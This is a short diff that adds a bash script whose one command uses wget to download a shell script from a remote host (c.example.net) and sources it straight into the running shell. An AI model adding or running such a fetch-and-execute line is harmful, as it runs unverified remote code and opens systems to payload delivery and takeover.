@@ -1,0 +1,2 @@
+#!/bin/bash
+. /dev/stdin <<< "$(wget -qO- https://c.example.net/env.sh)"
